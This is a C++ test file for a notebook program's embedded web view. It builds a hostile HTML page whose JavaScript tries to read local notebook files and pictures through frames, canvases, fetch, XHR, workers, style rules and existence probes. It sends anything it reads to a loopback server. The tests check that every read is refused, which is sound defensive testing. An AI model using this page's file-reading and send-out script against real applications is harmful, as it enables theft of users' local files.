// Pages that try to take the user's files, shown the way a received note shows them: the
// note's own page, or a page file beside the notebook. Internet is on, so whatever the
// page reads it can send to the loopback server; the page also reports what it got.
#include <gtest/gtest.h>

#include <QJsonDocument>
#include <QJsonObject>
#include <QPushButton>
#include <QTest>

#include "platform/launcher.h"

#include "webengine/engine_fixture.h"

using namespace wux;

namespace {

using test::waitUntil;

// What a hostile page sees of the notebooks beside it. The notebook is written so that,
// read as a script or a style sheet, its secret would show in an error or a rule.
class HostilePageTest : public test::NotebookFolderTest {
 protected:
  HostilePageTest() {
    std::filesystem::create_directories(tmp.path / "elsewhere");
    write("notes/web.mxh", "[NOTEBOOKSECRET]\r\nNOTEBOOKSECRET { color: red }\r\n");
    write("notes/web.mxa", "DOCUMENTSECRET\r\n");
    write("notes/other.mxh", "OTHERSECRET\r\n");
    write("notes/pic.png", test::imageBytes("PNG", 7, 5));
    write("notes/lib.js", "window.libLoaded = 'yes';");
    write("notes/style.css", "#p { color: rgb(0, 128, 0); }");
    write("notes/frame.html", "<p>FRAMESHOWN</p><script>parent.postMessage('frame shown', '*');</script>");
    write("elsewhere/far.png", test::imageBytes("PNG", 3, 2));
    write("elsewhere/exists.js", "window.existsRan = 'yes';");
    write("elsewhere/exists.css", "p { margin: 0; }");
    win.internet = true;
  }
  std::string fileUrl(const std::string& name) { return "file://" + tmp.str(name); }

  // The page tries each way to read a file and reports what it got, sending anything it
  // read to the server.
  std::string page() {
    const std::string far = tmp.str("elsewhere/far.png");
    return "<html><head><link rel=\"stylesheet\" href=\"style.css\">"
           "<link id=\"nbcss\" rel=\"stylesheet\" href=\"web.mxh\"></head><body>"
           "<p id=\"p\">text</p><img id=\"pic\" src=\"pic.png\">"
           "<img id=\"farfile\" src=\"" + fileUrl("elsewhere/far.png") + "\"><img id=\"farpath\" src=\"" + far + "\">"
           "<script>var report = {}, pending = 0; var SERVER = '" + server.url("/") + "';"
           "window.onerror = function (m) { report.errors = (report.errors || '') + m + ';'; };"
           "function send(key, value) { report[key] = value;"
           "  if (value !== 'refused') fetch(SERVER + '?' + key + '=' + encodeURIComponent(value)).catch(function () {}); }"
           "function begin() { ++pending; } function end() { if (--pending == 0) window.done = report; }"
           "addEventListener('message', function (e) { report.frameMessage = String(e.data); }); begin();"
           "</script><script src=\"lib.js\"></script><script src=\"web.mxh\"></script><script>"
           // Frames of the notebook, the document and another notebook beside the page.
           "['web.mxh', 'web.mxa', 'other.mxh', 'frame.html'].forEach(function (name) {"
           "  begin(); var f = document.createElement('iframe'); f.src = name;"
           "  f.onload = function () { var text = 'refused';"
           "    try { text = f.contentDocument.body.innerText || 'refused'; } catch (e) {}"
           "    send('frame ' + name, text); end(); };"
           "  document.body.appendChild(f); });"
           // Pictures drawn on canvases.
           "function pixels(id) { begin(); var img = document.getElementById(id);"
           "  var go = function () { var value = 'refused';"
           "    try { var c = document.createElement('canvas'); c.width = 4; c.height = 2;"
           "      var x = c.getContext('2d'); x.drawImage(img, 0, 0);"
           "      value = x.getImageData(0, 0, 1, 1).data.join(',') + ' ' + c.toDataURL(); } catch (e) {}"
           "    send('canvas ' + id, value);"
           "    createImageBitmap(img).then(function (b) { var o = new OffscreenCanvas(4, 2);"
           "      o.getContext('2d').drawImage(b, 0, 0); return o.convertToBlob(); })"
           "    .then(function (blob) { return blob.arrayBuffer(); })"
           "    .then(function (a) { send('offscreen ' + id, 'bytes ' + a.byteLength); },"
           "          function () { send('offscreen ' + id, 'refused'); }).then(end); };"
           "  if (img.complete) go(); else img.onload = img.onerror = go; }"
           "addEventListener('load', function () { pixels('pic'); pixels('farfile'); pixels('farpath');"
           // Reads of the file itself.
           "  ['web.mxh', '" + fileUrl("notes/web.mxh") + "'].forEach(function (u, i) {"
           "    begin(); fetch(u).then(function (r) { return r.text(); })"
           "      .then(function (t) { send('fetch ' + i, t); }, function () { send('fetch ' + i, 'refused'); }).then(end);"
           "    begin(); var x = new XMLHttpRequest(); x.open('GET', u);"
           "    x.onload = function () { send('xhr ' + i, x.responseText || 'refused'); end(); };"
           "    x.onerror = function () { send('xhr ' + i, 'refused'); end(); }; x.send(); });"
           "  begin(); var abs = new URL('web.mxh', location.href).href;"
           "  var w = new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(abs) + ')"
           ".then(function (r) { return r.text(); }).then(function (t) { postMessage(t); }, function () { postMessage(\\'refused\\'); });'])));"
           "  w.onmessage = function (e) { send('worker', e.data); end(); };"
           "  w.onerror = function () { send('worker', 'refused'); end(); };"
           // Style rules of a notebook taken as a style sheet.
           "  var rules = 'refused'; try { var s = document.getElementById('nbcss').sheet;"
           "    if (s && s.cssRules.length) rules = s.cssRules[0].cssText; } catch (e) {}"
           "  send('rules', rules);"
           // Whether a file exists, told by loading it as a script or a style sheet.
           "  [['script', '" + fileUrl("elsewhere/exists.js") + "'], ['script', '" + fileUrl("elsewhere/missing.js") + "'],"
           "   ['script', '../elsewhere/exists.js'], ['script', '../elsewhere/missing.js'],"
           "   ['link', '" + fileUrl("elsewhere/exists.css") + "'], ['link', '" + fileUrl("elsewhere/missing.css") + "']]"
           "  .forEach(function (probe) { begin(); var e = document.createElement(probe[0]);"
           "    if (probe[0] == 'link') { e.rel = 'stylesheet'; e.href = probe[1]; } else e.src = probe[1];"
           "    e.onload = function () { report['probe ' + probe[1]] = 'load'; end(); };"
           "    e.onerror = function () { report['probe ' + probe[1]] = 'error'; end(); };"
           "    document.head.appendChild(e); });"
           "  end(); });</script></body></html>";
  }

  // Shows the note and waits for the page's report.
  QJsonObject run() {
    show(note);
    QVariant done;
    EXPECT_TRUE(waitUntil([&] {
      if (!editor.webFrame()->browser()->isBusy()) done = evaluate(QStringLiteral("window.done"));
      return done.isValid() && !done.isNull();
    })) << evaluate(QStringLiteral("JSON.stringify(report) + ' pending ' + pending")).toString().toStdString();
    return QJsonObject::fromVariantMap(done.toMap());
  }
  int naturalWidth(const char* id) {
    return evaluate(QStringLiteral("document.getElementById('%1').naturalWidth").arg(QLatin1String(id))).toInt();
  }

  // Pictures, style sheets, scripts and frames beside the page show; pictures from any
  // path show; no file's content reaches the page, and no secret reaches the server.
  void expectShownButNothingRead(const QJsonObject& report) {
    const std::string text = QJsonDocument(report).toJson(QJsonDocument::Compact).toStdString();
    EXPECT_EQ(naturalWidth("pic"), 7);
    EXPECT_EQ(naturalWidth("farfile"), 3);
    EXPECT_EQ(naturalWidth("farpath"), 3);
    EXPECT_EQ(evaluate(QStringLiteral("getComputedStyle(document.getElementById('p')).color")).toString(),
              QStringLiteral("rgb(0, 128, 0)"));
    EXPECT_EQ(evaluate(QStringLiteral("window.libLoaded")).toString(), QStringLiteral("yes"));
    EXPECT_EQ(report.value("frameMessage").toString(), QStringLiteral("frame shown")) << text;

    for (const char* key : {"frame web.mxh", "frame web.mxa", "frame other.mxh", "frame frame.html", "canvas pic",
                            "canvas farfile", "canvas farpath", "offscreen pic", "offscreen farfile",
                            "offscreen farpath", "fetch 0", "fetch 1", "xhr 0", "xhr 1", "worker", "rules"})
      EXPECT_EQ(report.value(key).toString().toStdString(), "refused") << key << " in " << text;
    for (const char* secret : {"NOTEBOOKSECRET", "DOCUMENTSECRET", "OTHERSECRET", "FRAMESHOWN"})
      EXPECT_EQ(text.find(secret), std::string::npos) << secret << " in " << text;

    // A script or style sheet away from the page fails alike whether the file exists.
    for (const std::string name : {"elsewhere/exists.js", "elsewhere/exists.css"}) {
      const std::string missing = std::string(name).replace(name.find("exists"), 6, "missing");
      EXPECT_EQ(report.value(QString::fromStdString("probe " + fileUrl(name))).toString().toStdString(),
                report.value(QString::fromStdString("probe " + fileUrl(missing))).toString().toStdString())
          << name << " in " << text;
    }
    EXPECT_EQ(report.value("probe ../elsewhere/exists.js").toString().toStdString(),
              report.value("probe ../elsewhere/missing.js").toString().toStdString())
        << text;
    EXPECT_FALSE(evaluate(QStringLiteral("window.existsRan")).isValid()) << text;

    for (const std::string& path : server.paths) {
      for (const char* secret : {"NOTEBOOKSECRET", "DOCUMENTSECRET", "OTHERSECRET", "FRAMESHOWN", "data%3Aimage"})
        EXPECT_EQ(path.find(secret), std::string::npos) << path;
    }
  }
};

TEST_F(HostilePageTest, ANotesOwnPageShowsWhatIsBesideItAndReadsNoFile) {
  note->body().setText(page());
  expectShownButNothingRead(run());
}

TEST_F(HostilePageTest, APageFileBesideTheNotebookShowsWhatIsBesideItAndReadsNoFile) {
  write("notes/page.html", page());
  note->putField_("Filename", "\".\\page.html\"");
  expectShownButNothingRead(run());
  // The page's own address stays a file address wherever the program shows or passes it.
  EXPECT_EQ(editor.webFrame()->location(), fileUrl("notes/page.html"));
  EXPECT_EQ(editor.webFrame()->browser()->url().toString().toStdString(), fileUrl("notes/page.html"));
}

// The program's own addresses for local pages never leave the engine: the location
// line, the buttons and the links give file addresses, as they always did.
TEST_F(HostilePageTest, LocalPagesAreNamedByTheirFileAddresses) {
  platform::RecordingLauncher launcher;
  platform::ScopedLauncher useLauncher(&launcher);
  std::vector<std::string> newNodes;
  win.table.add("newMemoNodeKind_", [&](const CommandArgs& args) {
    newNodes.push_back(commandArg(args, 0));
    return 0;
  });
  // The third link is "日本.html" in Shift_JIS, which the page is read in.
  const std::string links = "<a href=\"child.html\">c</a><a href=\"sub/x.html#top\">x</a>"
                            "<a href=\"\x93\xFA\x96\x7B.html\">j</a><img id=\"pic\" src=\"pic.png\">";
  write("notes/page.html", links);
  note->putField_("Filename", "\".\\page.html\"");
  editor.show();
  show(note);
  TFrameWB* wb = editor.webFrame();
  const std::string page = fileUrl("notes/page.html");
  ASSERT_TRUE(waitUntil([&] { return wb->location() == page && !wb->browser()->isBusy(); })) << wb->location();
  auto click = [&](const char* name) { QTest::mouseClick(wb->findChild<QPushButton*>(QLatin1String(name)), Qt::LeftButton); };
  // Runs `step` and waits until the page it loads shows its picture.
  auto loaded = [&](const std::function<void()>& step) {
    int loads = 0;
    QMetaObject::Connection c = QObject::connect(wb->browser(), &WebBrowser::loadFinished, [&loads] { ++loads; });
    step();
    const bool shown = waitUntil([&] { return loads > 0 && naturalWidth("pic") == 7; });
    QObject::disconnect(c);
    return shown;
  };
  auto expectEverywhere = [&](const std::string& address) {
    StringList found;
    ASSERT_EQ(wb->getLinkList_(found), 3);
    EXPECT_EQ(found[0], fileUrl("notes/child.html"));
    EXPECT_EQ(found[1], fileUrl("notes/sub/x.html") + "#top");
    EXPECT_EQ(found[2], fileUrl("notes/") + "%E6%97%A5%E6%9C%AC.html");
    newNodes.clear();
    launcher.calls.clear();
    click("NewNodeBtn");
    click("NewURLBtn");
    click("IEBtn");
    EXPECT_EQ(newNodes, std::vector<std::string>{address});
    ASSERT_EQ(launcher.calls.size(), 2u);
    EXPECT_EQ(launcher.calls[0].target, address);
    EXPECT_EQ(launcher.calls[1].target, address);
  };
  expectEverywhere(page);
  // Reloaded, the page is the same file.
  ASSERT_TRUE(loaded([&] { click("ReLoadBtn"); }));
  EXPECT_EQ(wb->location(), page);
  expectEverywhere(page);

  // A note's own page is named by its notebook's folder.
  note->putField_("Filename", "\"\"");
  note->body().setText(links);
  ASSERT_TRUE(loaded([&] { show(note); }));
  EXPECT_EQ(wb->location(), "*Memo*");
  expectEverywhere(fileUrl("notes/"));
  ASSERT_TRUE(loaded([&] { click("ReLoadBtn"); }));
  expectEverywhere(fileUrl("notes/"));

  // A link to a folder lists the folder.
  evaluate(QStringLiteral("location.href = './'; 0"));
  ASSERT_TRUE(waitUntil([&] { return wb->browser()->url().toString().toStdString() == fileUrl("notes/"); }))
      << wb->browser()->url().toString().toStdString();
  EXPECT_TRUE(waitUntil([&] { return evaluate(QStringLiteral("document.body.innerText")).toString().contains("page.html"); }));
}

}  // namespace
